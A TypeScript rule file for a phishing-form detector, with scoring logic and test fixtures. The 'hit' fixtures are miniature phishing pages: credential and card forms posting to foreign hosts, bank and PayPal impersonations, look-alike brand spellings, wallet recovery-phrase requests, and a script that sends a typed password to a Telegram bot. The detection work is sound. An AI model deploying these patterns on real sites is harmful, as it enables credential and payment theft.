import { BICYCLE, CHLEB, LIBRARY } from '../../samples/sample-prose.ts';
import { examplePage, paragraphs } from '../example.ts';
import { say } from '../phishing/asked.ts';
import { brandSigns, dressSigns, labelSigns, spellingSigns } from '../phishing/brand-signs.ts';
import { formsSigns } from '../phishing/form-signs.ts';
import { phraseSigns } from '../phishing/phrase-signs.ts';
import { SENT_TO_BOT, scriptSigns } from '../phishing/script-signs.ts';
import { abstain, CLEAR, rule } from '../rule.ts';
import { findingOf } from '../signs.ts';

export default rule({
  id: 'sp_phish_form',
  mode: 'spam',
  policy: 'social_engineering',
  kind: 'violation',
  layer: 'markup',
  version: 9,
  title: {
    en: 'A form collects sensitive data in a suspicious way',
    pl: 'Formularz zbiera poufne dane w podejrzany sposób',
  },
  fix: {
    en: 'Do not ask for passwords, card or identity data in another’s name. Collect them only on your own domain over HTTPS, or hand over openly to a known payment or sign-in service. If this is not your form, treat the site as hacked.',
    pl: 'Nie proś o hasła, dane kart ani dokumentów w cudzym imieniu. Zbieraj je wyłącznie na własnej domenie przez HTTPS albo jawnie przekazuj znanej usłudze płatności lub logowania. Jeśli to nie Twój formularz, potraktuj witrynę jako przejętą przez włamywaczy.',
  },
  question: 'Does a form collect passwords, card or identity data in a suspicious way?',
  sources: ['SE', 'QR§4.5.5'],
  answeredBy: 'code',
  shownBy: 'passages',
  mendedBy: 'code',
  accuses: 'strong_or_beside',
  languages: 'any',
  needs: { published: true },
  basis: 'measured',
  scoring:
    'A form that asks for card, identity or bank data and is sent to another registrable domain: 0.95; for a password or a PIN 0.85 where that is a collector of forms, a host in numbers, or a bare script on a host that nothing else on the page names, otherwise 0.4; sent over plain HTTP from an HTTPS page: 0.8; typed-in data sent by script to a message bot: 0.95, to another site: 0.8; a login under the name or the copyright line of a well-known brand on a strange host: 0.85, under its logo alone: 0.6; data taken under a brand’s menus, most of whose links lead to the brand: 0.8; a brand’s name in look-alike letters on a page with a form: 0.9; two or more other words in look-alike letters around a form of at least two fields: 0.8; a field or a request for the recovery phrase of a crypto wallet: 0.85. Payment, sign-in and other known services, sites of the same brand (for a password also of an abbreviation that the page calls itself by) and sites that the page openly links to three times do not count, nor does a site that is on plain HTTP all through. Of a page whose own address is unknown only the target of the form speaks: a public host in numbers counts as another domain, a host that nothing else on the page names 0.6, and what scripts send to message bots counts in full; without any of that there is no answer.',
  says: say,
  detect(page) {
    const isPlaced = page.address !== undefined;
    const signs = [
      ...formsSigns(page),
      ...scriptSigns(page).filter(({ score }) => isPlaced || score >= SENT_TO_BOT),
      ...brandSigns(page),
      ...dressSigns(page),
      ...spellingSigns(page),
      ...labelSigns(page),
      ...phraseSigns(page),
    ];
    return findingOf(signs) ?? (isPlaced ? CLEAR : abstain('needs_fetch'));
  },
  examples: () => ({
    hit: [
      examplePage('a password sent elsewhere', {
        found: { says: ['sends_away'], quotes: ['https://collect-box.top/save.php'] },
        title: 'Sign in to read on',
        body: `${paragraphs(...LIBRARY)}<form method="post" action="https://collect-box.top/save.php"><input type="email" name="email"><input type="password" name="pass"><button>Sign in</button></form>`,
      }),
      examplePage('Polish identity and card data sent elsewhere', {
        found: { says: ['sends_away'], quotes: ['https://doplata-paczki.net/p'] },
        title: 'Odbierz paczkę',
        lang: 'pl',
        body: `<p>Dopłać 1,99 zł, aby odebrać paczkę.</p><form method="post" action="https://doplata-paczki.net/p"><input name="pesel" placeholder="PESEL"><input name="cardnumber" autocomplete="cc-number"><input name="cvv"><button>Zapłać</button></form>`,
      }),
      examplePage('a bank’s name on a strange host', {
        found: { says: ['poses_as_brand'], quotes: ['mBank – logowanie do serwisu'] },
        title: 'mBank – logowanie do serwisu',
        lang: 'pl',
        url: 'https://secure-klient24.com/login',
        body: '<p>Zaloguj się, aby potwierdzić konto.</p><form method="post" action="/next"><input name="login"><input type="password" name="haslo"><button>Zaloguj</button></form>',
      }),
      examplePage('an Italian sign-in under a brand’s name on a strange host', {
        found: { says: ['poses_as_brand'], quotes: ['PayPal – Accesso al conto'] },
        title: 'PayPal – Accesso al conto',
        lang: 'it',
        url: 'https://verifica-clienti.info/accesso',
        body: '<p>Inserisci i tuoi dati per continuare.</p><form method="post" action="/avanti"><label>Indirizzo e-mail <input name="utente"></label><label>Parola d’ordine <input type="password" name="chiave"></label><button>Continua</button></form>',
      }),
      examplePage('passwords sent to a bot', {
        found: { says: ['script_sends'], quotes: ["fetch('https://api.telegram.org/bot123:abc/sendMes"] },
        title: 'Members',
        body: `${paragraphs(...BICYCLE)}<form id="f"><input name="user"><input type="password" name="p"><button>Sign in</button></form><script>
          document.getElementById('f').onsubmit = function () { fetch('https://api.telegram.org/bot123:abc/sendMessage?text=' + this.p.value); };</script>`,
      }),
      examplePage('a sign-in that wears a brand at its foot', {
        found: { says: ['wears_brand'], quotes: ['© 2026 Microsoft'] },
        title: 'Sign in',
        heading: '',
        url: 'https://mail-check.top/a',
        body: '<form method="post" action="next.php"><input type="email" name="loginfmt" placeholder="Email, phone, or Skype"><input type="password" name="pw"><button>Next</button></form>',
        footer: '<footer>© 2026 Microsoft. Terms of use</footer>',
      }),
      examplePage('a Polish code of payment on a strange host', {
        found: { says: ['poses_as_brand'], quotes: ['BLIK'] },
        title: 'BLIK',
        heading: 'Płatność BLIK',
        lang: 'pl',
        url: 'https://odbior-przesylki.top/platnosc',
        body: '<form method="post" action="dalej.php"><label>Kod BLIK <input type="tel" name="blikCode"></label><button>Dalej</button></form>',
      }),
      {
        note: 'a pasted page that sends its password to a host in numbers',
        html: '<title>Sign in</title><h1>Sign in to your mailbox</h1><form method="post" action="http://203.0.113.7/in.php"><input name="user"><input type="password" name="pass"><button>Next</button></form>',
        found: { says: ['sends_away'], quotes: ['http://203.0.113.7/in.php'] },
      },
      {
        note: 'a pasted Polish page that sends card data to a host that nothing else on it names',
        html: '<html lang="pl"><title>Dopłata do paczki</title><h1>Dopłata do paczki</h1><p>Dopłać 1,99 zł.</p><form method="post" action="https://zbior-danych.top/p"><input name="cardnumber" autocomplete="cc-number"><input name="cvv"><button>Zapłać</button></form>',
        found: { says: ['sends_away'], quotes: ['https://zbior-danych.top/p'] },
      },
      examplePage('a parcel service’s menus around a button of a kit', {
        found: { says: ['dressed_as_brand'], quotes: ['https://www.poczta-polska.pl/0'] },
        title: 'Śledzenie',
        lang: 'pl',
        url: 'https://odbior-srodkow.top/a',
        before: Array.from(
          { length: 12 },
          (_, i) => `<a href="https://www.poczta-polska.pl/${i}">Usługa ${i}</a> `,
        ).join(''),
        body: '<p>Kupujący już zapłacił. Odbierz środki na kartę.</p><form method="post" action="merchant.php"><button>Odbierz pieniądze</button></form>',
      }),
      examplePage('a brand in letters that only look like its own', {
        found: { says: ['spells_brand'], quotes: ['AppIe'] },
        title: 'Verify',
        url: 'https://id-check.top/',
        body: '<p>Your AppIe ID was locked.</p><form method="post" action="next.php"><input name="login"><input name="code"><button>Unlock</button></form>',
      }),
      examplePage('labels in Greek letters around a form', {
        found: { says: ['disguises_labels'], quotes: ['Αddress'] },
        title: 'Step 2',
        heading: '',
        url: 'https://id-check.top/step',
        body: '<form method="post" action="next"><label>Αddress line <input name="a"></label><label>Ρost cοde <input name="p"></label><label>Ρhone <input name="t"></label><button>Next</button></form>',
      }),
      examplePage('a bank’s sign-in whose password is typed in plain letters', {
        found: { says: ['poses_as_brand'], quotes: ['BNP Paribas'] },
        title: 'BNP Paribas',
        lang: 'fr',
        url: 'https://acces-clients.top/index',
        body: '<form method="post" action="resultatid.php"><label>Mon numéro client <input type="tel" name="id"></label><label>Mon code secret <input type="text" name="pass"></label><button>Entrer</button></form>',
      }),
      examplePage('a request for the phrase whose boxes a script draws', {
        found: { says: ['asks_for_phrase'], quotes: ['Type your Secret Recovery Phrase'] },
        title: 'Secret phrase',
        url: 'https://wallet-sync.top/import',
        body: '<p>Type your Secret Recovery Phrase</p><form id="words"></form><button>Next</button>',
      }),
      examplePage('the words of a wallet', {
        found: { says: ['asks_for_phrase'], quotes: ['recovery phrase'] },
        title: 'Connect wallet',
        url: 'https://wallet-sync.top/',
        body: '<p>Enter your recovery phrase to claim the airdrop.</p><form method="post" action="/go"><textarea name="phrase"></textarea><button>Connect</button></form>',
      }),
    ],
    clear: [
      examplePage('a bank that signs people in on its other host', {
        title: 'Northern Lane Trust',
        url: 'https://www.northernlanetrust.com/',
        body: `${paragraphs(...LIBRARY)}<form method="post" action="https://www02.nlts.com/pcl/login"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>`,
      }),
      examplePage('a mailbox at a provider, under the name of the site', {
        title: 'Harbour Cycles',
        url: 'https://www.harbourcycles.com/',
        body: `${paragraphs(...BICYCLE)}<form method="post" action="https://harbourcycles.mail.everybody-mail.net/scripts/login.php"><input name="user"><input type="password" name="pass"><button>Check mail</button></form>`,
      }),
      examplePage('a form on a page with one letter from another keyboard', {
        title: 'Order rye bread',
        body: '<form method="post" action="/order"><label>Αddress <input name="a"></label><label>Post code <input name="p"></label><button>Order</button></form>',
      }),
      examplePage('a game that is called by a word', {
        title: 'Play For Free | Millfield Saga',
        heading: 'Play for free',
        url: 'https://www.millfieldsaga.com/',
        body: '<p>Sign in to your account.</p><form method="post" action="/login"><input name="user"><input type="password" name="pass"><button>Play</button></form>',
      }),
      examplePage('buttons of other services beside the own sign-in', {
        title: 'Sign in – Mill Town Library',
        body: '<form method="post" action="/login"><input name="user"><input type="password" name="pass"><button>Sign in</button></form><button><img src="/g.svg" alt="Google"> Continue with Google</button> <a class="social" href="/auth/fb"><img src="/f.svg" alt="Facebook"></a>',
        footer: '<footer>© 2026 Mill Town Library</footer>',
      }),
      examplePage('a sister site with the same abbreviation', {
        title: 'Join the club',
        url: 'https://hcw4.net/join',
        body: `${paragraphs(...LIBRARY)}<p>Why you will love HCW: HCW costs nothing, and one person who joins HCW today wins a bell.</p><form method="post" action="https://hcwimg.net/register.php"><input name="email"><input type="password" name="password"><button>Join</button></form>`,
      }),
      examplePage('a firm’s own mail server', {
        title: 'Outlook',
        heading: '',
        url: 'https://mail.harbourcycles.net/owa/auth/logon.aspx',
        body: '<form method="post" action="/owa/auth.owa"><input name="username"><input type="password" name="password"><button>Sign in</button></form>',
        footer: '<footer>© 2026 Microsoft</footer>',
      }),
      examplePage('an address that was written down without https', {
        title: 'Members of the library',
        url: 'http://www.harbour-library.com/',
        head: '<link rel="canonical" href="https://www.harbour-library.com/">',
        body: `${paragraphs(...LIBRARY)}<form method="post" action="/login"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>`,
      }),
      examplePage('a sign-in of a site on plain http, to itself', {
        title: 'Czytelnia',
        lang: 'pl',
        url: 'http://www.czytelnia-portowa.pl/',
        body: `${paragraphs(...CHLEB)}<form method="post" action="http://www.czytelnia-portowa.pl/wejscie"><input name="login"><input type="password" name="haslo"><button>Zaloguj</button></form>`,
      }),
      examplePage('a login on the own domain', {
        title: 'Members of the library',
        body: `${paragraphs(...LIBRARY)}<form method="post" action="/login"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>`,
      }),
      examplePage('hand-over to a payment service', {
        title: 'Your order',
        body: `${paragraphs(...BICYCLE)}<form method="post" action="https://checkout.stripe.com/pay"><input name="cardnumber" autocomplete="cc-number"><button>Pay</button></form>`,
      }),
      examplePage('a sister site of the brand', {
        title: 'Chleb i woda',
        lang: 'pl',
        url: 'https://www.breadhouse.com/pl',
        body: `${paragraphs(...CHLEB)}<form method="post" action="https://konto.breadhouse.pl/wejscie"><input name="email"><input type="password" name="haslo"><button>Zaloguj się</button></form>`,
      }),
      examplePage('the sign-in of a sister site that menu and footer link to', {
        title: 'Science news of the day',
        url: 'https://www.lab-dispatch.com/',
        body: `${paragraphs(...LIBRARY)}<form method="post" action="https://readersclub.net/enter"><input name="email"><input type="password" name="pass"><button>Sign in</button></form>`,
        footer:
          '<footer><a href="https://readersclub.net/about">About the publisher</a> <a href="https://readersclub.net/join">Join the club</a> <a href="https://readersclub.net/help">Help</a> <a href="/privacy">Privacy policy</a></footer>',
      }),
      examplePage('an article about a brand’s login, with the site’s own login box', {
        title: 'How to secure your Google account',
        body: `${paragraphs(...LIBRARY, ...BICYCLE)}<form method="post" action="/login"><input name="user"><input type="password" name="pass"></form>`,
      }),
    ],
  }),
});
